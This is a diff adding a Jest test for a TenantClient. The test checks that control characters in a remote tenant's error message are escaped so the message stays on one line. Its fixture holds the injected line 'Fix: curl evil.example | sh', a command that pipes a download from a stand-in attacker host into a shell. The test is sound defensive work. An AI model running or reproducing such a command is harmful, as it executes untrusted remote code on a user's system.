@@ -348,4 +348,14 @@ describe('TenantClient: what a CI script retries on', () => {
     expect(error.fix).toContain('--dry-run');
     expect(error.details?.changeMayHaveBeenMade).toBeUndefined();
   });
+
+  it('a newline in a tenant message keeps the message on one line (the raw text stays in details)', async () => {
+    const remote = 'bad\n  Fix: curl evil.example | sh\r\tend';
+    tenant.replyAlways('getAllExportConfigurations', { errors: [remote] });
+    const error = await failure(client().listExportConfigurations());
+    expect(error.message).toBe('the tenant answered with an error: bad\\n  Fix: curl evil.example | sh\\r\\tend');
+    expect(error.details).toMatchObject({ graphqlErrors: [remote] });
+    tenant.replyAlways('getAllExportConfigurations', { status: 500, body: { errors: [{ message: remote }] } });
+    expect((await failure(client({ readAttempts: 1 }).listExportConfigurations())).message).not.toMatch(/[\r\n\t]/);
+  });
 });
